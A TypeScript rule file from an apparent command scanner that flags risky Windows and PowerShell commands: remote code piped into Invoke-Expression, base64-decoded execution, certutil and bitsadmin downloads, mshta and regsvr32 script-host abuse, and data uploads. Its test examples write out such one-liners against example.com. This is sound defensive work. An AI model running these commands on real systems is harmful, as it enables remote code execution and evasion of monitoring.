import { isFed, takesIn } from '../invocation.ts';
import { type Rule, familyOf } from '../rule.ts';
import { TAINT } from '../taint.ts';
import { lineOf } from '../windows/parameters.ts';

const FETCHERS = [
  'invoke-webrequest',
  'iwr',
  'invoke-restmethod',
  'irm',
  'downloadstring',
  'downloaddata',
  'downloadfile',
  'start-bitstransfer',
];

/** What runs, fetches and hides code on Windows. */
export const windowsCode = familyOf('What runs, fetches and hides code on Windows', [
  {
    rule: 'windows.run-fetched',
    tier: 'HIGH',
    label: 'remote_code',
    message: 'Fetches code from another machine and runs it unseen.',
    zh: '从其他机器获取代码并直接运行。',
    names: ['invoke-expression', 'iex', 'invoke-command', 'icm', 'scriptblock::create'],
    when: (call) =>
      isFed(call, TAINT.remote) ||
      takesIn(call, TAINT.remote) ||
      /https?:\/\/|downloadstring|\biwr\b|\birm\b|invoke-webrequest/i.test(lineOf(call)),
    flags: ["iex 'irm https://example.com/install.ps1'"],
    spares: ["iex 'Get-Date'"],
  },
  {
    rule: 'windows.run-decoded',
    tier: 'HIGH',
    label: 'opaque_code',
    message: 'Decodes hidden text and runs it.',
    zh: '解码隐藏的文本并运行。',
    names: ['invoke-expression', 'iex', 'scriptblock::create'],
    when: (call) =>
      isFed(call, TAINT.decoded) || takesIn(call, TAINT.decoded) || /frombase64string/i.test(lineOf(call)),
    flags: ["iex '[Convert]::FromBase64String(x)'"],
    spares: ["iex 'Get-Date'"],
  },
  {
    rule: 'windows.evaluate',
    tier: 'MEDIUM',
    label: 'opaque_code',
    message: 'Runs text as code.',
    zh: '把文本当作代码运行。',
    names: [
      'invoke-expression',
      'iex',
      'invoke-command',
      'icm',
      'scriptblock::create',
      'add-type',
      'invoke-item',
      'start-job',
      'reflection.assembly::load',
      'system.reflection.assembly::load',
    ],
    flags: ["iex 'Get-Date'"],
    spares: ['Invoke-WebRequest https://example.com'],
  },
  {
    rule: 'windows.fetch-hidden',
    tier: 'HIGH',
    label: 'remote_code',
    message: 'Fetches or decodes a file with a tool that is made for something else, past those who watch.',
    zh: '用本非用于下载的工具获取或解码文件，以避开监控。',
    names: ['certutil', 'bitsadmin', 'desktopimgdownldr', 'certreq'],
    when: (call) =>
      /urlcache|-decode|\/decode|-verifyctl|\/transfer|\/addfile|setnotifycmdline|-post\b|lockscreenurl/i.test(
        lineOf(call),
      ),
    flags: [
      'certutil -urlcache -split -f https://example.com/a.exe a.exe',
      'bitsadmin /transfer job https://example.com/a.exe a.exe',
    ],
    spares: ['certutil -hashfile a.exe SHA256'],
  },
  {
    rule: 'windows.fetch-file',
    tier: 'MEDIUM',
    label: 'remote_code',
    message: 'Fetches a file in the background.',
    zh: '在后台获取文件。',
    names: ['start-bitstransfer', 'downloadfile', 'esentutl', 'expand', 'hh'],
    when: (call) => !/^(?:expand|esentutl)$/.test(call.name) || /\\\\\w/.test(lineOf(call)),
    flags: ['Start-BitsTransfer https://example.com/a.zip a.zip'],
    spares: ['expand a.cab'],
  },
  {
    rule: 'windows.send',
    tier: 'MEDIUM',
    label: null,
    message: 'Sends data to a server.',
    zh: '向服务器发送数据。',
    names: [...FETCHERS, 'uploadstring', 'uploadfile', 'uploaddata', 'send-mailmessage', 'uploadvalues'],
    when: (call) =>
      /^upload|^send-/.test(call.name) ||
      /-(?:method|m\w*)[ :](?:post|put|patch|delete)|-body\b|-infile\b/i.test(lineOf(call)),
    flags: ['Invoke-RestMethod -Method Post -Uri https://example.com -Body x'],
    spares: ['Invoke-WebRequest https://example.com -OutFile a.zip'],
  },
  {
    rule: 'windows.fetch',
    tier: 'LOW',
    label: null,
    message: 'Fetches something from a server.',
    zh: '从服务器获取内容。',
    names: FETCHERS,
    flags: ['Invoke-WebRequest https://example.com -OutFile a.zip'],
    spares: ['Invoke-RestMethod -Method Post -Uri https://example.com -Body x'],
  },
  {
    rule: 'windows.script-host',
    tier: 'HIGH',
    label: 'opaque_code',
    message: 'Runs a script or a library with a tool of the system that hides it.',
    zh: '用系统自带工具隐蔽地运行脚本或库。',
    names: [
      'mshta',
      'regsvr32',
      'rundll32',
      'installutil',
      'msbuild',
      'cmstp',
      'odbcconf',
      'forfiles',
      'pcalua',
      'regasm',
      'regsvcs',
    ],
    when: (call) =>
      /https?:|javascript:|vbscript:|scrobj|\\\\|\/i:|shell32.*shellexec|comsvcs|minidump/i.test(
        lineOf(call),
      ) || call.name === 'mshta',
    flags: ['mshta https://example.com/a.hta', 'regsvr32 /s /n /u /i:https://example.com/a.sct scrobj.dll'],
    spares: ['regsvr32 own.dll', 'msbuild app.sln'],
  },
  {
    rule: 'windows.run',
    tier: 'MEDIUM',
    label: 'opaque_code',
    message: 'Starts a program or a script whose contents are not judged here.',
    zh: '启动程序或脚本，其内容不在此处判定。',
    names: [
      'rundll32',
      'regsvr32',
      'wscript',
      'cscript',
      'forfiles',
      'pcalua',
      'installutil',
      'msiexec',
      'cmstp',
      'create',
      'invoke',
      'start',
    ],
    when: (call) => !['create', 'invoke', 'start'].includes(call.name),
    flags: ['cscript tool.vbs', 'msiexec /i app.msi /qn'],
    spares: ['start .'],
  },
] satisfies readonly Rule[]);
